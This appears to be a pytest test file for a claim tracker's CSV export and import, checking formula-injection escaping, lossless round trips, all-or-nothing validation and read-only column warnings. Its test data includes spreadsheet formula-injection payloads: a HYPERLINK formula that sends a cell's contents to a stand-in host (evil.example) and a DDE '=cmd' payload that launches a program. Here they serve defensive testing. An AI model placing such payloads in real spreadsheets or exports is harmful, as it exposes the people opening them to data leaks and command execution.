"""CSV export and import: RFC 4180, formula-safe, lossless round trip, all-or-nothing."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlmodel import Session, func, select
from typer.testing import CliRunner

from tracker import queries, services
from tracker.cli import app
from tracker.errors import ImportFailed
from tracker.interchange.csv_export import (
    CSV_COLUMNS,
    DERIVED_COLUMNS,
    EDITABLE_COLUMNS,
    export_csv_bytes,
)
from tracker.interchange.csv_import import READ_ONLY_HINTS, read_rows
from tracker.interchange.csvsafe import escape_cell, is_formula_safe, unescape_cell
from tracker.models import Claim, ClaimUpdate, Event, Note
from tracker.services import import_claims_csv
from tracker.validation import max_length

from .conftest import ROOT

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "'=already quoted",
    'Quotes "inside", commas, and\nnew lines',
    "Ünïcödé — “curly” ‘quotes’ 中文 🚀",
]


def export(session: Session, **filters: object) -> bytes:
    session.expire_all()
    return export_csv_bytes(session=session, filters=queries.ClaimFilter(**filters))  # type: ignore[arg-type]


def rows_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def table_counts(session: Session) -> tuple[int, int]:
    session.expire_all()
    return (
        session.exec(select(func.count()).select_from(Claim)).one(),
        session.exec(select(func.count()).select_from(Event)).one(),
    )


def set_claim_text(session: Session, claim_id: int, text: str) -> None:
    services.update_claim(
        session=session,
        claim_id=claim_id,
        changes=ClaimUpdate(claim=text),
        actor="editor",
        expected_version=queries.get_claim(session=session, claim_id=claim_id).version,
    )


@pytest.mark.parametrize("cell", [*HOSTILE, "plain", "", "'", "''=x", "-", "=", "a=b"])
def test_escape_round_trips_and_is_formula_safe(cell: str) -> None:
    escaped = escape_cell(cell)
    assert unescape_cell(escaped) == cell
    assert is_formula_safe(escaped)


@given(st.text())
def test_escape_round_trip_property(cell: str) -> None:
    escaped = escape_cell(cell)
    assert unescape_cell(escaped) == cell
    assert is_formula_safe(escaped)


def test_export_has_stable_columns_and_one_row_per_claim(seeded: Session) -> None:
    data = export(seeded)
    assert data.split(b"\r\n", 1)[0].decode() == ",".join(CSV_COLUMNS)
    rows = rows_of(data)
    assert len(rows) == queries.count_claims(session=seeded)
    assert [int(r["claim_id"]) for r in rows] == sorted(int(r["claim_id"]) for r in rows)


def test_export_filters_match_the_claims_list(seeded: Session) -> None:
    services.add_source(
        session=seeded, claim_id=3, url="https://a.example/x", stance="supports", actor="ana"
    )
    services.add_source(
        session=seeded, claim_id=3, url="https://b.example/y", stance="refutes", actor="ana"
    )
    services.review_claim(
        session=seeded, claim_id=3, status="verified", actor="ana", expected_version=1
    )
    rows = rows_of(export(seeded, status=["verified"]))
    assert [r["claim_id"] for r in rows] == ["3"]
    row = rows[0]
    assert (row["source_count"], row["supporting"], row["refuting"]) == ("2", "1", "1")
    assert row["source_urls"].split("\n") == ["https://a.example/x", "https://b.example/y"]
    assert row["last_reviewed_by"] == "ana" and row["last_reviewed_at"].endswith("+00:00")
    assert len(rows_of(export(seeded, search="HBM4"))) == queries.count_claims(
        session=seeded, filters=queries.ClaimFilter(search="HBM4")
    )


def test_hostile_cells_survive_and_pandas_agrees_with_csv(seeded: Session) -> None:
    for claim_id, text in enumerate(HOSTILE, start=1):
        set_claim_text(seeded, claim_id, text)
    data = export(seeded)
    rows = rows_of(data)
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    assert list(frame.columns) == list(CSV_COLUMNS)
    assert frame.to_dict("records") == rows
    for row in rows:
        for value in row.values():
            assert is_formula_safe(value), value
    by_id = {int(r["claim_id"]): unescape_cell(r["claim"]) for r in rows}
    for claim_id, text in enumerate(HOSTILE, start=1):
        assert by_id[claim_id] == text.strip()


def test_export_import_export_is_byte_identical(seeded: Session, tmp_path: Path) -> None:
    for claim_id, text in enumerate(HOSTILE, start=1):
        set_claim_text(seeded, claim_id, text)
    services.add_note(session=seeded, claim_id=2, body="=cmd|' /C calc'!A0", actor="ana")
    first = export(seeded)
    before = table_counts(seeded)
    report = import_claims_csv(session=seeded, data=first, actor="editor")
    assert (report.updated, report.created, report.unchanged) == ([], [], report.rows)
    assert table_counts(seeded) == before  # unchanged rows: no version bump, no event
    assert export(seeded) == first


def test_import_updates_through_the_rules_and_audit_trail(seeded: Session) -> None:
    rows = rows_of(export(seeded))
    rows[0]["claim"] = "=Edited claim text"
    rows[1]["assignee"] = "bob"
    rows[2]["status"] = "in_review"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows({k: escape_cell(v) for k, v in r.items()} for r in rows)
    report = import_claims_csv(session=seeded, data=out.getvalue().encode(), actor="editor")
    assert report.updated == [1, 2, 3]
    seeded.expire_all()
    assert queries.get_claim(session=seeded, claim_id=1).claim == "=Edited claim text"
    assert queries.get_claim(session=seeded, claim_id=2).assignee == "bob"
    c3 = queries.get_claim(session=seeded, claim_id=3)
    assert (c3.status, c3.version, c3.last_reviewed_by) == ("in_review", 2, "editor")
    actions = [e.action for e in queries.claim_detail(session=seeded, claim_id=1).events]
    assert actions == ["created", "edit"]


def test_import_creates_claims_located_in_the_article(seeded: Session) -> None:
    header = "claim_id,article,section,claim,quote,claim_type,status,flag_reason,assignee\r\n"
    body = "\r\n".join(
        [
            ",trainium3-silicon-sovereignty,,Neuron fuses ops,Kernel Fusion,capability,,,",
            ",trainium3-silicon-sovereignty,,Ring bus,The Ring Bus,capability,unreviewed,,carol",
        ]
    )
    report = import_claims_csv(session=seeded, data=(header + body).encode(), actor="editor")
    assert len(report.created) == 2
    new = queries.get_claim(session=seeded, claim_id=report.created[1])
    assert (new.origin, new.assignee, new.status) == ("imported", "carol", "unreviewed")
    article = queries.get_article(session=seeded, slug=new.article)
    assert article.text[new.quote_start : new.quote_end] == "The Ring Bus"


def test_bad_rows_are_all_reported_and_nothing_is_written(seeded: Session) -> None:
    rows = rows_of(export(seeded))[:6]
    rows[0]["status"] = "done"
    rows[1]["claim_id"] = "999999"
    rows[2]["version"] = "7"
    rows[2]["claim"] = "a stale edit"  # an unchanged stale row would be fine
    rows[3]["claim"] = "ok edit that must not land"
    rows[4]["status"] = "verified"  # no source
    rows[5]["claim_type"] = "rumour"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    before = table_counts(seeded)
    with pytest.raises(ImportFailed) as info:
        import_claims_csv(
            session=seeded, data=out.getvalue().encode(), actor="editor", source="x.csv"
        )
    message = str(info.value)
    assert message.startswith("x.csv: 5 problem(s), nothing imported")
    assert "line 2, field 'status', value 'done': unknown status; allowed: unreviewed" in message
    assert "line 3, field 'claim_id', value '999999': no such claim" in message
    assert "line 4, field 'version', value '7': claim 3 is at version 1" in message
    assert (
        "line 6, field 'status', value 'verified': verify needs at least one supporting source"
        in message
    )
    assert "line 7, field 'claim_type', value 'rumour': unknown claim_type" in message
    assert table_counts(seeded) == before
    assert queries.get_claim(session=seeded, claim_id=4).claim != "ok edit that must not land"


def test_dry_run_validates_only(seeded: Session) -> None:
    rows = rows_of(export(seeded))[:1]
    rows[0]["claim"] = "changed"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    before = table_counts(seeded)
    report = import_claims_csv(
        session=seeded, data=out.getvalue().encode(), actor="editor", dry_run=True
    )
    assert report.updated == [1] and report.dry_run
    assert table_counts(seeded) == before
    assert queries.get_claim(session=seeded, claim_id=1).claim != "changed"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"claim_id,article\r\n1,x\r\n", "line 1: missing column(s): section, claim, quote"),
        (
            b"claim_id,article,section,claim,quote,claim_type,status,flag_reason,assignee,status\r\n",
            "line 1, field 'status': column appears more than once",
        ),
        (
            b"claim_id;article;section;claim;quote;claim_type;status;flag_reason;assignee\r\n",
            "the header is separated by semicolons",
        ),
        (
            b"claim_id,article,section,claim,quote,claim_type,status,flag_reason,assignee\r\n"
            b"1,a,b,\xff\xfe,q,other,,,\r\n",
            "line 2: not valid UTF-8 (byte b'\\xff' at offset",
        ),
        (
            b"claim_id,article,section,claim,quote,claim_type,status,flag_reason,assignee,stauts\r\n",
            "unknown column(s): 'stauts'",
        ),
        (
            b"claim_id,article,section,claim,quote,claim_type,status,flag_reason,assignee\r\n1,2\r\n",
            "line 2: has 2 cells but the header has 9 columns",
        ),
        (b"", "line 1: the file is empty"),
    ],
)
def test_malformed_files_are_refused_with_a_line_number(
    seeded: Session, data: bytes, message: str
) -> None:
    before = table_counts(seeded)
    with pytest.raises(ImportFailed, match="nothing imported") as info:
        import_claims_csv(session=seeded, data=data, actor="editor", source="bad.csv")
    assert message in str(info.value)
    assert table_counts(seeded) == before


SAFE_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cc", "Cs"), whitelist_characters="\n\t"),
    min_size=1,
    max_size=200,
).filter(lambda s: s.strip())


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=SAFE_TEXT)
def test_any_claim_text_survives_export_import_export(seeded: Session, text: str) -> None:
    if queries.get_claim(session=seeded, claim_id=1).claim != text.strip():
        set_claim_text(seeded, 1, text)
    first = export(seeded, ids=[1, 2])
    for row in rows_of(first):
        assert all(is_formula_safe(v) for v in row.values())
    import_claims_csv(session=seeded, data=first, actor="editor")
    assert export(seeded, ids=[1, 2]) == first
    assert queries.get_claim(session=seeded, claim_id=1).claim == text.strip()


# --- issue #9 findings 12, 14-17, 19 ---------------------------------------------------

SLUG = "trainium3-silicon-sovereignty"
UNCLAIMED = "By March 2026, the AI world has reached a “Post-NVIDIA” realization."
cli_runner = CliRunner()


def csv_bytes(rows: list[dict[str, str]]) -> bytes:
    """Rows (plain strings) written as the export writes them."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows({k: escape_cell(v) for k, v in r.items()} for r in rows)
    return out.getvalue().encode("utf-8")


def new_row(quote: str, start: int | None = None, end: int | None = None) -> dict[str, str]:
    row = dict.fromkeys(CSV_COLUMNS, "")
    row |= {"article": SLUG, "claim": f"New: {quote[:40]}", "quote": quote}
    if start is not None and end is not None:
        row |= {"quote_start": str(start), "quote_end": str(end)}
    return row


def cli(session: Session, url: str, *args: str) -> tuple[int, str, str]:
    session.rollback()  # end the fixture's read transaction before another connection writes
    result = cli_runner.invoke(app, ["--db", url, *args])
    return result.exit_code, result.stdout, result.stderr


def test_import_refuses_an_assignee_without_an_account(seeded: Session) -> None:
    """Finding 12: the same rule as `tracker assign`, reported with line, field and value."""
    rows = rows_of(export(seeded, ids=[1]))
    rows[0]["assignee"] = "nobody"
    ghost = new_row(UNCLAIMED) | {"assignee": "ghost"}
    before = table_counts(seeded)
    with pytest.raises(ImportFailed) as info:
        import_claims_csv(
            session=seeded, data=csv_bytes([rows[0], ghost]), actor="editor", source="a.csv"
        )
    message = str(info.value)
    assert message.startswith("a.csv: 2 problem(s), nothing imported")
    assert "line 2, field 'assignee', value 'nobody': no account named 'nobody'" in message
    assert "line 3, field 'assignee', value 'ghost': no account named 'ghost'" in message
    assert table_counts(seeded) == before
    assert queries.get_claim(session=seeded, claim_id=1).assignee is None


def test_long_notes_survive_export_import_export(seeded: Session) -> None:
    """Finding 14: a notes cell beyond csv's default field limit (131,072) round-trips."""
    body = max_length(Note, "body")
    for i in range(20):
        services.add_note(
            session=seeded, claim_id=1, body=f"{i:02d} " + "x" * (body - 3), actor="ana"
        )
    limit = csv.field_size_limit()
    first = export(seeded)
    notes = read_rows(first, "long.csv")[0][1]["notes"]
    assert len(notes) > 20 * body > limit
    report = import_claims_csv(session=seeded, data=first, actor="editor")
    assert (report.created, report.updated, report.unchanged) == ([], [], report.rows)
    assert report.warnings == []
    assert export(seeded) == first
    assert csv.field_size_limit() == limit  # the process-wide limit is put back


def test_reimporting_an_applied_file_reports_it_unchanged(
    seeded: Session, db_url: str, tmp_path: Path
) -> None:
    """Finding 15: a row equal to the claim is unchanged whatever version it carries."""
    rows = rows_of(export(seeded))
    rows[2]["claim"] = "An edited claim 3"
    target = tmp_path / "edited.csv"
    target.write_bytes(csv_bytes(rows))
    code, out, err = cli(seeded, db_url, "import", "csv", str(target), "--by", "editor")
    assert code == 0, err
    assert "updated 1, unchanged 109" in out
    code, out, err = cli(seeded, db_url, "import", "csv", str(target), "--by", "editor")
    assert (code, err) == (0, "")
    assert f"{target}: 110 rows; created 0, updated 0, unchanged 110, skipped 0" in out
    assert "warning" not in out  # a stale row's read-only cells are not the user's edits
    seeded.expire_all()
    claim = queries.get_claim(session=seeded, claim_id=3)
    assert (claim.claim, claim.version) == ("An edited claim 3", 2)


def test_a_stale_row_that_changes_something_is_still_refused(seeded: Session) -> None:
    rows = rows_of(export(seeded, ids=[3]))
    set_claim_text(seeded, 3, "changed by someone else")
    rows[0]["claim"] = "my edit"
    with pytest.raises(ImportFailed, match=r"line 2, field 'version', value '1': claim 3 is at"):
        import_claims_csv(session=seeded, data=csv_bytes(rows), actor="editor")


def test_edits_to_read_only_columns_are_warned_and_ignored(
    seeded: Session, db_url: str, tmp_path: Path
) -> None:
    """Finding 16: compared with the export, reported with line and column, import goes on."""
    rows = rows_of(export(seeded, ids=[1, 2, 3]))
    rows[0]["source_count"] = "4"
    rows[2]["notes"] = "I checked this with the press office"
    rows[2]["confirmation"] = "confirmed"
    rows[1]["claim"] = "An edit that lands"
    rows[1]["updated_at"] = "2020-01-01T00:00:00+00:00"
    data = csv_bytes(rows)
    expected = [
        "line 2, column 'source_count': read-only, ignored; add sources with `tracker source add`",
        "line 3, column 'updated_at': read-only, ignored; set by the tracker",
        "line 4, column 'notes': read-only, ignored; add notes with `tracker note`",
        "line 4, column 'confirmation': read-only, ignored; "
        "confirm a verdict with `tracker confirm`",
    ]
    report = import_claims_csv(session=seeded, data=data, actor="editor", dry_run=True)
    assert [str(w) for w in report.warnings] == expected
    assert (report.updated, report.unchanged) == ([2], 2)

    target = tmp_path / "ro.csv"
    target.write_bytes(data)
    for args in (("--dry-run",), ()):
        code, out, err = cli(seeded, db_url, "import", "csv", str(target), "--by", "editor", *args)
        assert (code, err) == (0, ""), err
        assert " 1, unchanged 2, " in out and "4 warning(s):" in out
        for line in expected:
            assert f"  {line}\n" in out
    seeded.expire_all()
    assert queries.claim_detail(session=seeded, claim_id=3).notes == []
    assert queries.get_claim(session=seeded, claim_id=2).claim == "An edit that lands"


def test_read_only_hints_cover_every_read_only_column() -> None:
    assert set(READ_ONLY_HINTS) == set(DERIVED_COLUMNS)


def test_a_new_row_repeating_a_claims_quote_is_skipped_and_reported(seeded: Session) -> None:
    """Finding 17: as `import-article` matches candidates; re-importing creates nothing."""
    three = queries.get_claim(session=seeded, claim_id=3)
    inside = three.quote_start + 5, three.quote_start + 30
    article = queries.get_article(session=seeded, slug=SLUG)
    rows = [
        new_row(three.quote),  # the same quote, located at the same place
        new_row(article.text[inside[0] : inside[1]], *inside),  # overlaps claim 3
        new_row(UNCLAIMED),
        new_row(UNCLAIMED),  # repeats the row above
    ]
    data = csv_bytes(rows)
    before = table_counts(seeded)
    report = import_claims_csv(session=seeded, data=data, actor="editor")
    assert len(report.created) == 1
    created = report.created[0]
    assert report.skipped == [(2, 3), (3, 3), (5, created)]
    assert str(report.warnings[0]) == (
        "line 2, column 'quote': repeats the quote of claim 3 (same place or the same words); "
        "not created again"
    )
    assert "skipped 3 duplicate(s)" in str(report)
    assert table_counts(seeded)[0] == before[0] + 1

    again = import_claims_csv(session=seeded, data=data, actor="editor")
    assert again.created == [] and [m for _, m in again.skipped] == [3, 3, created, created]
    assert table_counts(seeded)[0] == before[0] + 1


def test_readme_lists_the_csv_columns_in_order() -> None:
    """Finding 19: the README's column list is the code's, in the code's order."""
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## CSV format", 1)[1].split("\n## ", 1)[0]
    block = re.search(r"\n\n`(claim_id,[^`]*)`\n\n", section)
    assert block, "the CSV section lists its columns in one `claim_id, ...` block"
    listed = [c.strip() for c in block.group(1).replace("\n", " ").split(",")]
    assert listed == list(CSV_COLUMNS)
    editable = section.split("**Import.**", 1)[1]
    for name in EDITABLE_COLUMNS:
        if name not in ("claim_id", "article", "version"):
            assert f"`{name}`" in editable, name
